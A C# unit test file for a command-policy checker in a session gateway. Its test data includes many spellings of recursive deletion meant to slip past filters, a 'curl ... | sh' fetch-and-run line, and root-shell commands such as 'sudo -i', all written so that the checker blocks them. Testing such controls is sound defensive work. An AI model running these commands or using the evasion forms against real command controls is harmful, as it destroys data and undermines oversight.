using Gatehouse.Contracts;
using Gatehouse.Contracts.Authorization;
using Gatehouse.SessionBroker.Commands;

namespace Gatehouse.SessionBroker.Tests.Commands;

public sealed class When_a_line_is_checked_against_command_policies
{
    // "rm -rf *" as Authorization translates the glob: anchored, '*' any run of characters.
    private static readonly CommandPolicyCheck Check = new([CommandsKept.NoRecursiveDelete]);

    [Theory]
    [InlineData("rm -rf /tmp/x")]
    [InlineData("ls; rm -rf /tmp/x")]
    [InlineData("true && rm -rf /tmp/x")]
    [InlineData("false || rm -rf /tmp/x")]
    [InlineData("cat /etc/hosts | rm -rf /tmp/x")]
    [InlineData("echo $(rm -rf /tmp/x)")]
    [InlineData("echo `rm -rf /tmp/x`")]
    [InlineData("sh -c 'rm -rf /tmp/x'")]
    [InlineData("r''m -rf /tmp/x")]
    [InlineData("( cd /; rm -rf /tmp/x )")]
    [InlineData("rm -fr /tmp/x")]
    [InlineData("env rm -r -f /tmp/x")]
    [InlineData("sudo -u root /bin/rm --recursive --force /tmp/x")]
    [InlineData("{rm,-rf,/tmp/x}")]
    [InlineData("echo 'rm -rf /tmp/x' | sh")]
    [InlineData("bash <<< 'rm -rf /tmp/x'")]
    [InlineData("find /tmp -name x -exec rm -rf /tmp/x \\;")]
    public void Should_find_the_forbidden_command_wherever_it_hides(string line)
    {
        var violation = Check.Check(line);

        Assert.NotNull(violation);
        Assert.Equal("rm", violation.Command.Words[0]);
        Assert.Equal("/tmp/x", violation.Command.Words[^1]);
        Assert.Same(CommandsKept.NoRecursiveDelete, violation.Policy);
    }

    [Theory]
    [InlineData("$CMD -rf /tmp/x", "the program name comes from the expansion $CMD, only known when it runs")]
    [InlineData("echo !!", "history expansion (!!) replaces text from earlier commands")]
    [InlineData("curl -s http://x | sh", "sh reads commands from its input, which the gateway cannot read")]
    [InlineData("rm $OPTS /tmp/x", "'rm $OPTS /tmp/x' has a word only known when it runs, which could make policy 'no-recursive-delete' apply")]
    public void Should_refuse_what_it_cannot_know_under_a_policy_and_say_why(string line, string reason)
    {
        var violation = Check.Check(line);

        Assert.NotNull(violation);
        Assert.Null(violation.Policy);
        Assert.StartsWith($"gatehouse: not run: {reason}.", CommandPolicyCheck.Explain(violation));
    }

    [Theory]
    [InlineData("ls -la /tmp")]
    [InlineData("rm /tmp/x")]
    [InlineData("echo 'rm -rf /tmp/x is dangerous'")]
    [InlineData("grep rm notes")]
    [InlineData("man rm")]
    [InlineData("rmdir /tmp/x")]
    [InlineData("git commit -m \"rm -rf /tmp/x\"")]
    public void Should_let_other_commands_run(string line) => Assert.Null(Check.Check(line));

    [Fact]
    public void Should_refuse_a_shell_reading_input_the_gateway_does_not_check()
    {
        Assert.Null(Check.Check("bash"));
        Assert.Contains("bash reads commands from its input, which the gateway cannot read", Check.Check("bash", inputIsChecked: false)?.Message);
    }

    [Theory]
    [InlineData("bash", true)]
    [InlineData("bash -i", true)]
    [InlineData("bash -l", true)]
    [InlineData("/bin/sh", true)]
    [InlineData("sudo -i", true)]
    [InlineData("sudo -s", true)]
    [InlineData("su -", true)]
    [InlineData("cd /srv && exec bash --login", true)]
    [InlineData("ls -l", false)]
    [InlineData("bash -c 'ls'", false)]
    [InlineData("cat > /tmp/upload", false)]
    [InlineData("bash deploy.sh", false)]
    [InlineData("tar -xf -", false)]
    [InlineData("scp -t /tmp", false)]
    [InlineData("/usr/lib/openssh/sftp-server", false)]
    [InlineData("rsync --server -vlogDtpre.iLsfxC . /srv", false)]
    [InlineData("git-upload-pack '/srv/repo.git'", false)]
    public void Should_tell_an_exec_that_runs_commands_from_its_input(string command, bool reads) =>
        Assert.Equal(reads, CommandPolicyCheck.ReadsCommandsFromInput(command));

    [Fact]
    public void Should_name_the_simple_commands_a_line_starts_for_the_record()
    {
        var commands = CommandPolicyCheck.Commands("cd /srv && sudo /bin/r''m -fr \"old logs\" | tee x", inputIsChecked: true);

        Assert.Equal([new ShellCommand("cd", ["/srv"]), new ShellCommand("sudo", ["/bin/rm", "-fr", "old logs"]), new ShellCommand("rm", ["-fr", "old logs"]),
            new ShellCommand("tee", ["x"])], commands, (a, b) => a.Program == b.Program && a.Arguments.SequenceEqual(b.Arguments));
    }

    [Fact]
    public void Should_fail_closed_when_a_pattern_takes_too_long()
    {
        var catastrophic = new SessionCommandPolicy(Guid.NewGuid(), "slow", "(a+)+$", CommandPatternKind.Regex, "^(a+)+$", CommandPolicyAction.Deny);

        var violation = new CommandPolicyCheck([catastrophic]).Check(new string('a', 40) + "!");

        Assert.NotNull(violation);
    }

    [Fact]
    public void Should_say_that_a_command_needing_approval_was_not_run()
    {
        var approval = CommandsKept.NoRecursiveDelete with { Action = CommandPolicyAction.RequireApproval };

        var message = CommandPolicyCheck.Explain(new CommandPolicyCheck([approval]).Check("rm -rf /srv")!);

        Assert.Equal("gatehouse: 'rm -rf /srv' needs approval under policy 'no-recursive-delete' and was not run", message);
    }

    [Theory]
    [InlineData("rm -fr /tmp/x")]
    [InlineData("rm --recursive --force /tmp/x")]
    [InlineData("env /bin/rm -f -R /tmp/x")]
    public void Should_apply_a_command_policy_to_the_program_and_its_options_in_any_spelling(string line)
    {
        var byCommand = new SessionCommandPolicy(Guid.NewGuid(), "no-rm-r-f", "rm -r -f", CommandPatternKind.Command, null, CommandPolicyAction.Deny);

        var check = new CommandPolicyCheck([byCommand]);

        Assert.Same(byCommand, check.Check(line)?.Policy);
        Assert.Null(check.Check("rm -f /tmp/x"));
    }

    [Fact]
    public void Should_let_a_program_an_allow_policy_names_run_its_own_input_under_a_deny_policy()
    {
        const string line = "bash ./deploy.sh";
        Assert.Contains("bash", Check.Check(line)?.Message);

        var allowBash = new SessionCommandPolicy(Guid.NewGuid(), "allow-deploy", "bash ./deploy.sh", CommandPatternKind.Command, null,
            CommandPolicyAction.Allow);
        var check = new CommandPolicyCheck([CommandsKept.NoRecursiveDelete, allowBash]);

        Assert.Null(check.Check(line));
        Assert.Same(CommandsKept.NoRecursiveDelete, check.Check("bash ./deploy.sh; rm -rf /tmp/x")?.Policy);
        Assert.NotNull(check.Check("python3 -c 'print(1)'"));
    }

    [Fact]
    public void Should_allow_nothing_by_an_allow_policy_it_cannot_read()
    {
        var unreadable = new SessionCommandPolicy(Guid.NewGuid(), "allow-broken", "(", CommandPatternKind.Regex, "(", CommandPolicyAction.Allow);

        var check = new CommandPolicyCheck([CommandsKept.NoRecursiveDelete, unreadable]);

        Assert.NotNull(check.Check("bash ./deploy.sh"));
        Assert.Null(check.Check("ls -l"));
    }

    [Fact]
    public void Should_restrict_nothing_with_only_an_allow_policy()
    {
        var allowPython = new SessionCommandPolicy(Guid.NewGuid(), "allow-python", "python3", CommandPatternKind.Command, null,
            CommandPolicyAction.Allow);

        var check = new CommandPolicyCheck([allowPython]);

        Assert.False(check.HasPolicies);
        Assert.Null(check.Check("rm -rf / ; $X"));
    }

    [Fact]
    public void Should_allow_everything_without_policies() => Assert.Null(new CommandPolicyCheck([]).Check("rm -rf /"));
}
